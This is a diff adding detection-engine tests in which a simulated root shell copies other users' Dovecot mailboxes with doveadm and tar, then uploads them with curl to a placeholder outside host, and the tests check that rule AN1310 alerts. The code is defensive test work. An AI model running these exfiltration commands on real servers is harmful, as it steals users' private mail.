@@ -131,3 +131,52 @@ test('the lock of a box is no box, under whatever name it is made; a box that is
   assert.equal(await linked('clerk.lock1a2bws1.example.org', 'clerk.lock'), '');
   assert.match(await linked('clerk', 'x.lock'), /^Mail of clerk read/);
 });
+
+test("what the server's tool keeps beside the boxes of all users is bookkeeping, and no way by which mail goes on", async () => {
+  const { log, mine, other } = mailHost();
+  const tool = log.shell('root').run('/usr/bin/doveadm search -A from x@example.com');
+  tool.write('/home/clerk/Maildir/dovecot-uidvalidity.6b03a136').read(mine.path);
+  tool
+    .write('/home/buyer/Maildir/dovecot-uidlist')
+    .read(other.path)
+    .write('/home/clerk/Maildir/dovecot.list.index.log');
+  log.wait(MINUTE);
+  const later = log.shell('root');
+  later.run(`/usr/bin/curl -T /home/buyer/Maildir/dovecot-uidlist http://${OUT}/x`).connect(OUT, 80);
+  atMostAt(await scanLog(log), 'informational');
+});
+
+test('under the name of an index, what a shell opened for its output and what the words name is a staged file', async () => {
+  for (const isNamed of [true, false]) {
+    const { log, mine, other } = mailHost();
+    const shell = log.shell('root');
+    const path = '/home/buyer/Maildir/dovecot.cache';
+    const child = shell.fork();
+    if (!isNamed) child.write(path);
+    log.wait(10);
+    child.exec(`/usr/bin/doveadm fetch -A text all${isNamed ? ` ${path}` : ''}`);
+    if (isNamed) child.write(path);
+    child.read(mine.path).read(other.path);
+    log.wait(MINUTE);
+    shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);
+    const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+    assert.ok(valuesOf(alert, 'file').includes(path), valuesOf(alert, 'file').join('\n'));
+  }
+});
+
+test("a Maildir that the server's tool makes among temporary files is a copy, of whom the letters are", async () => {
+  const { log, other } = mailHost();
+  const shell = log.shell('root');
+  const tool = shell.run('/usr/bin/doveadm backup -u buyer maildir:/var/tmp/.b');
+  const [temporary, path] = ['/var/tmp/.b/tmp/1772442061.M1P2.ws1', '/var/tmp/.b/cur/1772442061.M1P2.ws1:2,'];
+  tool.write('/var/tmp/.b/dovecot-uidlist').read(other.path).write(temporary).rename(temporary, path);
+  log.wait(MINUTE);
+  const tar = shell.run('/usr/bin/tar cf /root/b.tar -C /var/tmp .b');
+  tar.write('/root/b.tar').read(path);
+  log.wait(MINUTE);
+  shell.run(`/usr/bin/curl -T /root/b.tar http://${OUT}/x`).read('/root/b.tar').connect(OUT, 80);
+  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+  assert.match(alert.title, /^Mail of buyer/);
+  assert.ok(valuesOf(alert, 'file').includes(temporary), valuesOf(alert, 'file').join('\n'));
+  assert.ok(alert.entities.every(({ value }) => value !== 'tmp'));
+});
